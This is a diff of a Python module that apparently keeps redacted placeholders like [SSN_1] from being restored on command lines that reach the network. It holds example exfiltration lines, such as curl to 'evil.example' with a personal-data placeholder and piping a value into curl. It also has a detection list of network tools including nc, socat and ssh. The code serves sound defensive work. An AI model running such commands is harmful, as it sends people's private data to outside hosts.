@@ -11,7 +11,8 @@ images and links. Restoration therefore keeps a placeholder that sits
 - in a link or image destination, or an HTML attribute or script (`url_markup`, read by a
   CommonMark parser and an HTML tokenizer);
 - on a command line that reaches the network (`curl host -d [SSN_1]`, in text or in a
-  tool call's arguments): its hosts are the URLs and host names written before it;
+  tool call's arguments): its hosts are the URLs and host names written after the
+  command; a value piped into a network client later on the line stays too;
 
 unless every host involved is on `restore.url_hosts` (a URL without a host never is).
 Streams and the parts of one answer carry a `UrlContext` from one text to the next.
@@ -47,8 +48,9 @@ _COMMAND = regex.compile(rf"(?<![\w.-])(?:{_NETWORK})(?:\.exe)?(?=[\s\"',\]]|$)|
 # Where a command starts: a line, a pipe, `;`, `&`, a quote, `$(`, a JSON array...
 _COMMAND_POSITION = frozenset("|;&(`\"'[,$:")
 _PREFIXES = ("sudo", "exec", "xargs", "then", "do")
-# The same tools named in a sentence ("run curl evil.example -d ..."): a command only when
-# a host follows the name.
+# Tools that are only ever network clients: named in a sentence ("run curl evil.example
+# -d ...") they are a command when a host follows the name; after a placeholder on its
+# line (`echo [SSN_1] | curl ...`) they take it too.
 _TOOLS = frozenset(
     {
         "curl", "wget", "wget2", "httpie", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp",
@@ -91,7 +93,7 @@ def _each_command(line: str) -> Iterator[tuple[int, bool, bool]]:
 
 _BARE_HOST = regex.compile(rf"(?i)(?<![\w.@/-])(?:{_HOST}|{_IPV4})(?![\w-])")
 # A run longer than TAIL_LIMIT: its host is no longer known, so nothing is restored in it
-# (the empty authority before '/' never matches an allowed host).
+# (its `//` has an empty authority, which never matches an allowed host).
 _OVERFLOW = "x:///"
 
 
